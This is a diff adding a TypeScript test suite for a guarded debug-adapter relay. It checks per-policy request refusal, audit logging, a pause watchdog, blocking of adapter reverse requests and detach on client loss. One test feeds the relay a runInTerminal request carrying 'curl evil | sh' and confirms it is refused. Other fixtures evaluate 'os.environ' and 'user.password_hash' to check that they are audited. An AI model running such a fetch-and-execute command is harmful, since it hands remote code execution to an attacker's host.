@@ -1,0 +1,222 @@
+import type { DebugProtocol } from '@vscode/debugprotocol';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import type { DapMessage } from '../../../src/dap/dapMessage.js';
+import type { PolicyName } from '../../../src/session/dapPolicy.js';
+import { MemoryAuditSink, openGuardedSession, settle, type Harness } from './guardedHarness.js';
+
+const harnesses: Harness[] = [];
+async function open(...args: Parameters<typeof openGuardedSession>): Promise<Harness> {
+  const h = await openGuardedSession(...args);
+  harnesses.push(h);
+  return h;
+}
+afterEach(async () => {
+  vi.useRealTimers();
+  for (const h of harnesses.splice(0)) {
+    h.pipe.close();
+    await h.closed;
+  }
+});
+
+/** A DAP message as golden text: stable fields only (seq and request_seq masked). */
+function golden(message: DapMessage): string {
+  const { seq: _seq, ...rest } = message as DapMessage & { request_seq?: number };
+  if ('request_seq' in rest) rest.request_seq = 0;
+  return JSON.stringify(rest);
+}
+
+/** What the client does in each policy's golden transcript. */
+const script: Array<[string, unknown]> = [
+  ['threads', undefined],
+  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10 }] }],
+  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10, condition: 'n > 3' }] }],
+  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10, logMessage: 'n={n}' }] }],
+  ['setExceptionBreakpoints', { filters: ['uncaught'] }],
+  ['evaluate', { expression: 'os.environ', frameId: 1, context: 'repl' }],
+  ['setVariable', { variablesReference: 7, name: 'n', value: '0' }],
+  ['completions', { text: 'os.', column: 4 }],
+  ['pause', { threadId: 1 }],
+  ['next', { threadId: 1 }],
+  ['continue', { threadId: 1 }],
+];
+
+describe('policies (golden DAP transcripts)', () => {
+  it.each<PolicyName>(['full', 'no-eval', 'logpoints-only'])('%s', async (policy) => {
+    const h = await open({ policies: { default: policy, targets: {}, principals: {} } });
+    const lines: string[] = [];
+    for (const [command, args] of script) {
+      const response = await h.request(command, args);
+      const forwarded = h.adapter.requests().some((r) => r.seq === response.request_seq);
+      lines.push(`client → ${command}: ${golden(response)}${forwarded ? '' : ' [not forwarded]'}`);
+    }
+    await expect(lines.join('\n') + '\n').toMatchFileSnapshot(`golden/policy-${policy}.txt`);
+    // A refused request never reaches the adapter; an allowed one does, unchanged.
+    const refused = h.client.responses().filter((r) => !r.success);
+    for (const response of refused) {
+      expect(response.message).toContain(`refused by policy "${policy}"`);
+      expect(h.adapter.requests().some((r) => r.seq === response.request_seq)).toBe(false);
+    }
+    expect(h.audit.named('dap.refused')).toHaveLength(refused.length);
+    expect(h.audit.named('dap.refused').every((r) => r['policy'] === policy)).toBe(true);
+  });
+});
+
+describe('audit of requests', () => {
+  it('records state-changing and code-running requests before forwarding them', async () => {
+    const h = await open();
+    await h.request('evaluate', { expression: 'user.password_hash', frameId: 3, context: 'watch' });
+    await h.request('stackTrace', { threadId: 1 });
+    await h.request('setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 4, condition: 'x == 1' }, { line: 9, logMessage: 'y={y}' }] });
+    await h.request('continue', { threadId: 1 });
+    const requests = h.audit.named('dap.request');
+    expect(requests.map((r) => r['command'])).toEqual(['evaluate', 'setBreakpoints', 'continue']);
+    expect(requests[0]).toMatchObject({ principal: 'jwt:alice', target: 'web-1', session: expect.any(String), expression: 'user.password_hash', context: 'watch' });
+    expect(requests[1]).toMatchObject({ source: '/srv/app.py', breakpoints: [{ line: 4, condition: 'x == 1' }, { line: 9, logMessage: 'y={y}' }] });
+  });
+
+  it('refuses an audited request when the audit log cannot be written, but never a disconnect', async () => {
+    const audit = new MemoryAuditSink();
+    const h = await open({ audit });
+    audit.failing = true;
+    const refused = await h.request('evaluate', { expression: '1+1' });
+    expect(refused.success).toBe(false);
+    expect(refused.message).toContain('audit log is unavailable');
+    expect(h.adapter.requests('evaluate')).toHaveLength(0);
+    expect((await h.request('threads')).success).toBe(true); // not audited: forwarded
+    expect((await h.request('disconnect', { terminateDebuggee: false })).success).toBe(true);
+  });
+
+  it('cuts long values to audit.maxValueChars', async () => {
+    const h = await open({ maxAuditValueChars: 16 });
+    await h.request('evaluate', { expression: 'x'.repeat(100) });
+    expect(h.audit.named('dap.request')[0]!['expression']).toBe(`${'x'.repeat(16)}…[84 more]`);
+  });
+});
+
+describe('reverse requests from the adapter side', () => {
+  it('never forwards runInTerminal: the adapter gets an error response', async () => {
+    const h = await open();
+    h.adapter.send({ type: 'request', seq: 50, command: 'runInTerminal', arguments: { kind: 'integrated', cwd: '/', args: ['sh', '-c', 'curl evil | sh'] } });
+    await settle();
+    expect(h.client.messages).toHaveLength(0);
+    const answer = h.adapter.responses().find((r) => r.request_seq === 50)!;
+    expect(answer).toMatchObject({ command: 'runInTerminal', success: false });
+    expect(answer.message).toContain('runInTerminal');
+    expect(h.audit.named('dap.refused')[0]).toMatchObject({ command: 'runInTerminal', direction: 'toClient' });
+  });
+
+  it('allows startDebugging only as attach', async () => {
+    const h = await open();
+    h.adapter.send({ type: 'request', seq: 51, command: 'startDebugging', arguments: { request: 'launch', configuration: { program: '/tmp/x.py' } } });
+    h.adapter.send({ type: 'request', seq: 52, command: 'startDebugging', arguments: { configuration: { subProcessId: 9 } } });
+    h.adapter.send({ type: 'request', seq: 53, command: 'startDebugging', arguments: { request: 'attach', configuration: { subProcessId: 7, connect: { host: '127.0.0.1', port: 1 } } } });
+    await settle();
+    expect(h.client.requests('startDebugging').map((r) => r.seq)).toEqual([53]);
+    expect(h.adapter.responses().filter((r) => !r.success).map((r) => r.request_seq).sort()).toEqual([51, 52]);
+    expect(h.audit.named('dap.subprocess')).toEqual([expect.objectContaining({ via: 'startDebugging', subProcessId: 7 })]);
+  });
+
+  it('drops a debugpyAttach event that is not an attach', async () => {
+    const h = await open();
+    h.adapter.send({ type: 'event', seq: 60, event: 'debugpyAttach', body: { request: 'launch', program: 'x' } });
+    h.adapter.send({ type: 'event', seq: 61, event: 'debugpyAttach', body: { subProcessId: 4, connect: { host: '127.0.0.1', port: 1 } } });
+    await settle();
+    expect(h.client.events('debugpyAttach').map((e) => e.seq)).toEqual([61]);
+  });
+});
+
+describe('pause watchdog', () => {
+  const stopped = (threadId: number): object => ({ type: 'event', seq: 70 + threadId, event: 'stopped', body: { reason: 'breakpoint', threadId, allThreadsStopped: true } });
+
+  it('resumes a debuggee stopped longer than the bound, tells the client and records it', async () => {
+    const h = await open({ pauseWatchdog: { maxPauseMs: 60, targets: {} } });
+    h.adapter.send(stopped(3));
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    const resumes = h.adapter.requests('continue');
+    expect(resumes).toHaveLength(1);
+    expect(resumes[0]!.arguments).toEqual({ threadId: 3, singleThread: false });
+    expect(resumes[0]!.seq).toBeGreaterThanOrEqual(0x2000_0000);
+    // The relay's continue is answered by the fake adapter; the client never sees that answer.
+    expect(h.client.responses()).toHaveLength(0);
+    const output = h.client.events('output')[0] as DebugProtocol.OutputEvent;
+    expect(output.body.output).toMatch(/paused for \d+ s, longer than this target allows \(60 ms, pauseWatchdog\)/);
+    expect(h.client.events('continued')[0]!.body).toEqual({ threadId: 3, allThreadsContinued: true });
+    expect(h.audit.named('watchdog.resumed')[0]).toMatchObject({ threadId: 3, maxPauseMs: 60, target: 'web-1' });
+  });
+
+  it('does nothing when the client resumes in time', async () => {
+    const h = await open({ pauseWatchdog: { maxPauseMs: 80, targets: {} } });
+    h.adapter.send(stopped(1));
+    await settle();
+    await h.request('continue', { threadId: 1 });
+    await new Promise((resolve) => setTimeout(resolve, 160));
+    expect(h.adapter.requests('continue')).toHaveLength(1); // the client's own
+    expect(h.audit.named('watchdog.resumed')).toHaveLength(0);
+  });
+
+  it('uses the smallest matching per-target bound', async () => {
+    const guards = (await open({ pauseWatchdog: { maxPauseMs: 0, targets: { 'web-*': 90_000, 'web-1': 30_000, 'db-*': 0 } } })).guards;
+    expect(guards.maxPauseMsFor('web-1')).toBe(30_000);
+    expect(guards.maxPauseMsFor('web-2')).toBe(90_000);
+    expect(guards.maxPauseMsFor('db-1')).toBe(0);
+    expect(guards.maxPauseMsFor('other')).toBe(0);
+  });
+});
+
+describe('client loss', () => {
+  async function attached(h: Harness): Promise<void> {
+    await h.request('initialize', { adapterID: 'debugpy' });
+    await h.request('attach', {});
+  }
+
+  it('detaches an attached debugger with terminateDebuggee false before closing the adapter side', async () => {
+    const h = await open();
+    await attached(h);
+    h.client.transport.destroy();
+    const reason = await h.closed;
+    expect(reason.closedBy).toBe('client');
+    const detach = h.adapter.requests('disconnect');
+    expect(detach).toHaveLength(1);
+    expect(detach[0]!.arguments).toEqual({ terminateDebuggee: false, restart: false });
+    await settle();
+    expect(h.adapter.transport.closed).toBe(true);
+    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'detached' });
+    expect(h.audit.named('session.closed')[0]).toMatchObject({ closedBy: 'client' });
+  });
+
+  it('detaches on relay shutdown (pipe.close) as well', async () => {
+    const h = await open();
+    await attached(h);
+    h.pipe.close();
+    await h.closed;
+    expect(h.adapter.requests('disconnect')).toHaveLength(1);
+  });
+
+  it('leaves a session that said goodbye, or never attached, alone', async () => {
+    const bye = await open();
+    await attached(bye);
+    await bye.request('disconnect', { terminateDebuggee: false });
+    bye.client.transport.close();
+    await bye.closed;
+    expect(bye.adapter.requests('disconnect')).toHaveLength(1); // the client's own
+
+    const early = await open();
+    await early.request('initialize', { adapterID: 'debugpy' });
+    early.client.transport.close();
+    await early.closed;
+    expect(early.adapter.requests('disconnect')).toHaveLength(0); // the agent's bridge finishes the handshake
+  });
+
+  it('gives up waiting after sessions.detachTimeoutMs', async () => {
+    const h = await open({ autoAnswer: false, sessions: { exclusive: true, detachTimeoutMs: 50, takeoverTimeoutMs: 100 } });
+    h.client.send({ type: 'request', seq: 1, command: 'attach', arguments: {} });
+    await settle();
+    h.adapter.send({ type: 'response', seq: 1, request_seq: 1, command: 'attach', success: true });
+    await settle();
+    const started = Date.now();
+    h.client.transport.close();
+    await h.closed;
+    expect(Date.now() - started).toBeGreaterThanOrEqual(45);
+    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'timeout' });
+  });
+});
